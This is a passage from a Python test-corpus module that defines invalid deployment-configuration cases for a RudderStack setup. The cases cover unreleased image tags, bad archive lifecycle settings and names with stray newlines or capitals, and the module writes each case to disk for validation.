        ("rudder.backend_image", "rudderlabs/rudder-server@sha256:" + "c" * 64),
    ),
    _doc_case(
        "server-branch-tag",
        "a rudder-server tag that is a number but not a release",
        "dev",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:1.83"),
    ),
    _doc_case(
        "server-v2",
        "a rudder-server major version nobody tested",
        "prod",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:2.0.0"),
    ),
    _doc_case(
        "transformer-digest-only",
        "a rudder-transformer digest without its release tag",
        "dev",
        "rudder.transformer_image",
        ("rudder.transformer_image", "rudderstack/rudder-transformer@sha256:" + "d" * 64),
    ),
    # --- event archive --------------------------------------------------------------------------------------
    _doc_case(
        "archive-ia-too-early",
        "a transition to Standard-IA after 7 days",
        "prod",
        "event_archive.transition_days",
        ("event_archive", {"transition_days": 7}),
    ),
    _doc_case(
        "archive-expires-first",
        "archived objects expiring before they transition",
        "prod",
        "event_archive.expiration_days",
        ("event_archive", {"transition_days": 90, "expiration_days": 60}),
    ),
    _doc_case(
        "archive-off-with-settings",
        "lifecycle settings on a disabled archive",
        "dev",
        "event_archive.expiration_days",
        ("event_archive", {"enabled": False, "expiration_days": 30}),
    ),
    _doc_case(
        "archive-on-eks",
        "an event archive on the eks topology, which does not wire one",
        EKS_ENV,
        "event_archive",
        ("event_archive", {"enabled": True}),
    ),
    _doc_case(
        "archive-storage-class",
        "an unknown transition storage class",
        "prod",
        "event_archive.transition_storage_class",
        ("event_archive", {"transition_storage_class": "DEEP_FREEZE"}),
    ),
    # --- names ----------------------------------------------------------------------------------------------
    _doc_case(
        "environment-newline",
        "environment: dev with a trailing newline",
        "dev",
        "environment",
        ("environment", "dev\n"),
    ),
    _doc_case("environment-upper", "environment: Dev", "dev", "environment", ("environment", "Dev")),
    _doc_case(
        "bucket-newline",
        "a state bucket with a trailing newline",
        "dev",
        "state.bucket",
        ("state.bucket", "acme-rudder-ha-tfstate\n"),
    ),
    _doc_case(
        "zone-newline",
        "a zone with a trailing newline",
        "dev",
        "network.availability_zones[1]",
        ("network.availability_zones", ["eu-west-1a", "eu-west-1b\n"]),
    ),
)
"""The corpus; names are unique."""


def write_corpus(folder: Path) -> dict[str, Path]:
    """Every case written under ``folder/<name>/``; returns the path to validate for each."""
    return {case.name: case.write(folder / case.name) for case in CASES}


if __name__ == "__main__":
    for name, path in write_corpus(Path(sys.argv[1])).items():
        print(name, path)
